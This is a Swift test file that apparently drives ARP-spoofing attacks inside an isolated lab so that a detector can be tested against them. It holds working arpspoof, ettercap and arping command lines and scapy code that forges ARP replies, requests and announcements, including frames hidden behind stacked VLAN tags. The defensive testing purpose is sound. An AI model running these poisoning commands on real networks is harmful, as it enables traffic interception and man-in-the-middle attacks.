// SPDX-License-Identifier: Apache-2.0

import TestKit
import Testing

/// An attack with a tool that attackers use.
struct Attack: Sendable, CustomTestStringConvertible {
    let name: String
    /// What the laboratory is called.
    let nickname: String
    let path: String
    let words: [String]
    /// The file without which it can't be had.
    var needs: String
    /// What the tool prints just before its first frame.
    let announces: [String]

    var testDescription: String { name }

    init(
        _ name: String, _ nickname: String, _ path: String, _ words: [String],
        announces: [String] = []
    ) {
        self.name = name
        self.nickname = nickname
        self.path = path
        self.words = words
        needs = path
        self.announces = announces
    }

    /// Starts the tool in the attacker's place.
    ///
    /// Ettercap looks for its victims once and attacks those alone that answered in time; one that
    /// did not find both makes way for another.
    func start(in laboratory: Laboratory) throws -> RunningProcess {
        for _ in 1...4 {
            let attacker = try laboratory.start(.attacker, path, words)
            let attacks = announces.allSatisfy {
                (try? attacker.waitForLine(containing: $0, within: .seconds(15))) != nil
            }
            if attacks { return attacker }
            attacker.kill()
        }
        throw TestKitError("\(name) never printed \(announces)")
    }

    static let arping = Attack(
        "arping", "ap", "/usr/sbin/arping",
        ["-i", "eth0", "-U", "-P", "-S", "10.9.0.1", "-c", "5", "10.9.0.1"])

    static let all = [
        Attack(
            "arpspoof", "as", "/usr/sbin/arpspoof",
            ["-i", "eth0", "-t", "10.9.0.2", "10.9.0.1"]),
        Attack(
            "ettercap", "et", "/usr/bin/ettercap",
            ["-T", "-q", "-i", "eth0", "-M", "arp:remote", "/10.9.0.1//", "/10.9.0.2//"],
            announces: ["GROUP 1 :", "GROUP 2 :"]),
        arping,
        Attack("forged answers by scapy", "s1", scapy: "[answer(GATEWAY, WATCHER)]"),
        Attack(
            "answers behind five tags without a VLAN", "s5",
            scapy: "[hidden(answer(GATEWAY, WATCHER), 5)]"),
        Attack("announcements by scapy", "s2", scapy: "[announcement(GATEWAY)]"),
        Attack(
            "scapy between both sides", "s3",
            scapy: "[answer(GATEWAY, WATCHER), answer(WATCHER, GATEWAY)]"),
        Attack(
            "scapy between both sides, by questions", "s4",
            scapy: "[question(GATEWAY, WATCHER), question(WATCHER, GATEWAY)]"),
    ]
}

extension Attack {
    static let scapyNeeds = "/usr/lib/python3/dist-packages/scapy/all.py"

    /// Frames by scapy, as an expression in Python, again and again.
    init(_ name: String, _ nickname: String, scapy frames: String) {
        self.init(
            name, nickname, "/usr/bin/python3", ["-c", Self.preface + Self.loop(frames, each: 1)])
        needs = Self.scapyNeeds
    }

    /// Sends frames at once, says so, and then again and again.
    static func loop(_ frames: String, each seconds: Double) -> String {
        """
        frames = \(frames)
        sendp(frames, iface="eth0", verbose=0)
        print("sent", flush=True)
        sendp(frames, iface="eth0", inter=\(seconds) / len(frames), loop=1, verbose=0)
        """
    }

    /// The laboratory's members, and frames that claim another's address for the attacker.
    static let preface = """
        from scapy.all import ARP, Dot1Q, Ether, IP, conf, sendp
        from scapy.layers.vrrp import VRRP
        GATEWAY = ("02:00:00:00:09:01", "10.9.0.1")
        WATCHER = ("02:00:00:00:09:02", "10.9.0.2")
        OWN = "02:00:00:00:09:03"
        ALL = "ff:ff:ff:ff:ff:ff"
        def answer(whose, to):
            return Ether(src=OWN, dst=to[0]) / ARP(
                op=2, hwsrc=OWN, psrc=whose[1], hwdst=to[0], pdst=to[1])
        def hidden(frame, tags):
            for _ in range(tags):
                frame = Ether(src=frame.src, dst=frame.dst) / Dot1Q(vlan=0) / frame.payload
            return frame
        def question(whose, to):
            return Ether(src=OWN, dst=to[0]) / ARP(
                op=1, hwsrc=OWN, psrc=whose[1], hwdst="00:00:00:00:00:00", pdst=to[1])
        def announcement(whose):
            return Ether(src=OWN, dst=ALL) / ARP(
                op=1, hwsrc=OWN, psrc=whose[1], hwdst="00:00:00:00:00:00", pdst=whose[1])
        def advert(mac, ip, shared):
            return Ether(src=mac, dst="01:00:5e:00:00:12") / IP(
                src=ip, dst="224.0.0.18", ttl=255) / VRRP(
                vrid=51, priority=100, ipcount=1, addrlist=[shared])

        """
}
